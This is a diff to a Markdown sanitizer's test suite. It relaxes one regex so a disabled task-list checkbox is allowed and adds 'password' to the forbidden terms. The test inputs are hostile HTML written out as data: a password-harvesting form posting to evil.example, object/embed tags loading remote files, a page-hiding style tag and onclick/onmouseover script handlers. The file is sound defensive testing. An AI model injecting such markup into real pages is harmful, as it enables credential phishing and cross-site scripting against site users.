@@ -53,9 +53,10 @@ describe('Markdown', () => {
     ['<div style="position:fixed;inset:0;background:red">cover</div>', /style|position|fixed/i],
     ['<object data="https://evil.example/x.swf"></object>', /<object|evil/i],
     ['<embed src="https://evil.example/x.swf">', /<embed|evil/i],
+    // The <input> may stay only as a disabled task-list checkbox, without its name.
     [
       '<form action="https://evil.example"><input name="password"><button>Go</button></form>',
-      /<form|<input|<button|evil/i,
+      /<form|<input (?!type="checkbox" disabled="" aria-label="Task"\/>)|<button|evil|password/i,
     ],
     ['<style>body{display:none}</style>', /<style|display/i],
     ['<a href="x" onclick="alert(1)" onmouseover="alert(2)">x</a>', /onclick|onmouseover|alert/i],
